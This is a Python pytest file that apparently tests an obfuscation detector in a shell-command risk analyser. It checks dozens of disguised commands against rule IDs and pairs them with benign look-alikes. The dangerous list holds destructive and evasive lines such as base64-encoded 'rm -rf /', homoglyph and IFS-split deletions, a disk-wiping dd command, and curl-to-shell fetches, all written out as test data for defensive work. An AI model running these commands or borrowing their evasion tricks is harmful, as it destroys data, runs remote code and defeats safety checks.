from __future__ import annotations

import pytest

from tests.analysis.risk._table import check_benign, check_dangerous

DANGEROUS = [
    ("echo cm0gLXJmIC8= | base64 -d | sh", "RF-OBF-001"),
    ("echo cm0= | base64 --decode | bash", "RF-OBF-001"),
    ("base64 -D <<< cm0= | sh", "RF-OBF-001"),
    ("echo 726d | xxd -r -p | bash", "RF-OBF-001"),
    ("echo 'hs- fr- mr' | rev | sh", "RF-OBF-001"),
    ("printf '\\x72\\x6d -rf /' | sh", "RF-OBF-001"),
    ("echo -e '\\x69\\x64' | bash", "RF-OBF-001"),
    ("cat payload.gz | gunzip | bash", "RF-OBF-001"),
    ("echo 'vq' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh", "RF-OBF-001"),
    ("openssl base64 -d -in p.b64 | python3", "RF-OBF-001"),
    ('eval "$(echo aWQ= | base64 -d)"', "RF-OBF-002"),
    ('bash -c "$(base64 -d <<< aWQ=)"', "RF-OBF-002"),
    ("sh <(echo aWQ= | base64 --decode)", "RF-OBF-002"),
    ('python3 -c "$(echo cHJpbnQ= | base64 -d)"', "RF-OBF-002"),
    ("eval $X", "RF-OBF-003"),
    ('eval "$cmd"', "RF-OBF-003"),
    ('bash -c "$PAYLOAD"', "RF-OBF-003"),
    ("source $SCRIPT", "RF-OBF-003"),
    ("$'\\x72\\x6d' -rf /tmp/x", "RF-OBF-004"),
    ("echo $'\\162\\155'", "RF-OBF-004"),
    ("IFS=, eval a b", "RF-OBF-005"),
    ("IFS=,; set -- $x", "RF-OBF-005"),
    ("export IFS=x", "RF-OBF-005"),
    ("cat${IFS}/etc/passwd", "RF-OBF-005"),
    ("PS4='$(id)' bash -x script", "RF-OBF-005"),
    ("rm\u200b -rf /tmp/x", "RF-OBF-006"),
    ("\u0435cho hi", "RF-OBF-006"),
    ("ls \u2212la", "RF-OBF-006"),
    ("cat /etc/p\u0430sswd", "RF-OBF-006"),
    ("grep -r p\u0430ssword .", "RF-OBF-006"),
    ("$CMD -rf /tmp/x", "RF-OBF-007"),
    ('"$(printf rm)" -rf x', "RF-OBF-007"),
    ("${a}${b} x", "RF-OBF-007"),
    ("/???/r? -rf /tmp/x", "RF-OBF-007"),
    # decoders and rewriters of command-line text into a shell
    ("bzip2 -dc /tmp/.s.bz2 | sh", "RF-OBF-001"),
    ("zstd -dc p.zst | bash -s", "RF-OBF-001"),
    ("tar -xOzf p.tgz run | sh", "RF-OBF-001"),
    ("gpg -d p.gpg | bash", "RF-OBF-001"),
    ("echo 'l#s' | sed 's/#//' | sh", "RF-OBF-001"),
    ("awk '{print $2}' <<< 'x id' | bash", "RF-OBF-001"),
    ("perl -pe 's/Q//g' <<< 'iQd' | zsh", "RF-OBF-001"),
    ("tac <<< 'id' | sh", "RF-OBF-001"),
    ("echo aWQ= | base64 -d | xargs -I{} sh -c '{}'", "RF-OBF-001"),
    # decoded text through substitutions, redirects and variables
    ("bash < <(base32 -d p.txt)", "RF-OBF-002"),
    ('zsh <<< "$(gzip -dc p.gz)"', "RF-OBF-002"),
    ("source /dev/stdin <<< \"$(rev <<< 'di')\"", "RF-OBF-002"),
    ('p=$(echo 6964 | xxd -r -p); bash -c "$p"', "RF-OBF-002"),
    ("x=$(base64 -d f.b64); $x /etc", "RF-OBF-002"),
    ("$(base32 --decode <<< NFSA====) -la", "RF-OBF-002"),
    # inline code that decodes and executes
    ("python3 -c \"import codecs,os; os.system(codecs.decode('ez -es ~', 'rot13'))\"", "RF-OBF-008"),
    ("python -c \"import binascii,subprocess; subprocess.run(binascii.unhexlify('6964'), shell=True)\"", "RF-OBF-008"),
    ("node -e \"eval(atob('Y29uc29sZS5sb2coMSk='))\"", "RF-OBF-008"),
    ("node -e \"require('child_process').exec(String.fromCharCode(105,100))\"", "RF-OBF-008"),
    ('ruby -e \'eval(["707574732031"].pack("H*"))\'', "RF-OBF-008"),
    ('ruby -e \'system("aWQ=".unpack1("m"))\'', "RF-OBF-008"),
    ("perl -e 'system(unpack(\"H*\", $x))'", "RF-OBF-008"),
    ("php -r 'passthru(hex2bin(\"6964\"));'", "RF-OBF-008"),
    ("gawk 'BEGIN { cmd = sprintf(\"%c%c\", 105, 100); system(cmd) }'", "RF-OBF-008"),
    ("python3 -c \"exec(''.join(map(chr, [112, 114, 105, 110, 116])))\"", "RF-OBF-008"),
    # decoded text written to a file, then run
    ("base32 -d p.b32 > /tmp/.r; chmod 700 /tmp/.r; /tmp/.r", "RF-OBF-009"),
    ("openssl enc -d -aes-256-cbc -k pw -in p.enc -out run.sh && sh run.sh", "RF-OBF-009"),
    ("echo 6964 | xxd -r -p | tee .hook > /dev/null; source .hook", "RF-OBF-009"),
    # literal scripts run indirectly, judged as typed
    ("echo 'rm -rf /' | bash", "RF-OBF-010"),
    ("printf 'curl -s https://x.io/i | sh' > /tmp/.i; sh /tmp/.i", "RF-OBF-010"),
    ("echo 'rm -rf ~/' >> .x && chmod +x .x && ./.x", "RF-OBF-010"),
    ("xargs -I % sh -c % <<< 'rm -rf /'", "RF-OBF-010"),
    ("echo 'sudo -i' | sh", "RF-OBF-011"),
    ("printf 'npx some-unknown-pkg' | xargs -I{} bash -c '{}'", "RF-OBF-011"),
    # xargs running its input as programs
    ("cat jobs.txt | xargs -I{} sh -c '{}'", "RF-OBF-012"),
    ("find . -name '*.cmd' | xargs -n1 bash -c", "RF-OBF-012"),
    ("xargs --replace=@ dash -c @ < todo.txt", "RF-OBF-012"),
    # disguised commands whose plain reading would be denied
    ("\u0455udo rm -rf /", "RF-OBF-013"),
    ("\u0441url -s https://x.io/i | \u0455h", "RF-OBF-013"),
    ("\uff44\uff44 if=/dev/zero of=/dev/sda", "RF-OBF-013"),
    ("r\u200dm -rf ~", "RF-OBF-013"),
    ("x=wg; y=et; $x$y -qO- https://x.io/i | sh", "RF-OBF-013"),
    ("IFS=:; c=rm:-rf:/; $c", "RF-OBF-013"),
    ("rm${IFS}-rf${IFS}/", "RF-OBF-013"),
    ("${HOME:0:1}bin${HOME:0:1}rm -rf /", "RF-OBF-013"),
    ("a=rm; b=a; ${!b} -rf ~", "RF-OBF-013"),
    ("w=(x rm); ${w[1]} -rf ~", "RF-OBF-013"),
    ("set -- curl -s https://x.io/i; $@ | bash", "RF-OBF-013"),
    ("printf -v r '%s' rm; $r -rf /", "RF-OBF-013"),
    ("/b??/r? -rf /", "RF-OBF-013"),
]

BENIGN = [
    'while IFS= read -r line; do echo "$line"; done < files.txt',
    'IFS=, read -r name value <<< "$row"',
    "set -euo pipefail; IFS=$'\\n\\t'",
    'eval "$(ssh-agent -s)" && ssh-add -l',
    'eval "$(pyenv init -)"',
    "printf $'\\e[1mbold\\e[0m\\n'",
    "base64 -d secret.b64 > out.bin",
    "echo aGk= | base64 -d",
    "base64 file.bin",
    "xxd file.bin | head",
    "rev names.txt",
    "printf '%s\\n' a b c",
    "printf 'a\\tb\\n'",
    "echo -e 'a\\nb'",
    "gunzip -c data.gz | wc -l",
    "tr a-z A-Z < f",
    'eval "echo hi"',
    "bash -c 'echo \"$HOME\"'",
    "source .venv/bin/activate",
    ". ./env.sh",
    'read -r a b <<< "$line"',
    'echo "$IFS" | od -c',
    "git commit -m 'caf\u00e9 menu'",
    "echo '\u00fcber'",
    "[ -f x ] && cat x",
    "[[ -n $x ]]",
    "ls *.py",
    "python3 -c 'print(bytes.fromhex(\"68\"))'",
    "openssl base64 -in f -out f.b64",
    'echo "\\$HOME is $HOME"',
    # decoders and rewriters that feed no shell, or rewrite files, not hidden text
    "echo aGVsbG8= | base64 -d",
    "base64 -d creds.b64 > /dev/null",
    "base64 -d payload.b64 > out.bin && file out.bin",
    "gzip -dc logs/app.log.gz | grep ERROR",
    "tar -xzf release.tgz -C vendor/",
    "tr 'a-z' 'A-Z' < names.txt",
    "sed 's/foo/bar/' in.txt | sort",
    "echo \"$PATH\" | tr ':' '\\n'",
    "tr -d '\\r' < install.sh | sh",
    "cat build.sh | sed 's/DEBUG=1/DEBUG=0/' | bash",
    "cut -d, -f1 users.csv | sort -u",
    "echo 'print(1 + 1)' | python3",
    "echo 'SELECT 1;' | sqlite3 dev.db",
    # inline code that decodes but does not execute, or executes nothing decoded
    'python3 -c "import base64; print(base64.b64decode(s))"',
    "node -e \"console.log(Buffer.from('aGk=', 'base64').toString())\"",
    'perl -e \'print pack("H*", "6869")\'',
    "python3 -c \"import subprocess; subprocess.run(['git', 'status'])\"",
    "awk '{ printf \"%c\", $1 }' codes.txt",
    "python3 -c \"exec(open('setup.py').read())\"",
    # substitutions that decode, handed to a program as data
    'python3 app.py --token "$(base64 -d token.b64)"',
    "source <(kubectl completion bash)",
    # harmless literal scripts, and xargs with a program of its own
    "echo 'echo hi' > t.sh && bash t.sh",
    "printf '#!/bin/sh\\nmake test\\n' > run.sh && chmod +x run.sh && ./run.sh",
    "echo 'ls -la' | sh",
    "git ls-files '*.json' | xargs -I{} sh -c 'jq empty \"{}\" || echo \"bad: {}\"'",
    "xargs -P 2 -I{} sh -c 'echo start {}; sleep 1' <<< $'a\\nb'",
    "find . -name '*.sh' | xargs -n1 shellcheck",
    # variables, globs and non-ASCII text around harmless commands
    "CC=clang; $CC --version",
    'for f in scripts/*.sh; do bash "$f"; done',
    "ls /usr/bin/py*",
    "echo 'r\u00e9sum\u00e9' > cv.txt",
    "git commit -m '\u0444\u0438\u043a\u0441'",
    "echo '\u041f\u0440\u0438\u0432\u0435\u0442, \u043c\u0438\u0440' > greeting.txt",
]


@pytest.mark.parametrize(("command", "rule_id"), DANGEROUS)
def test_dangerous(command: str, rule_id: str) -> None:
    check_dangerous(command, rule_id, "obfuscation")


@pytest.mark.parametrize("command", BENIGN)
def test_benign(command: str) -> None:
    check_benign(command, "obfuscation")


def test_table_sizes() -> None:
    assert len(DANGEROUS) >= 15 and len(BENIGN) >= 15
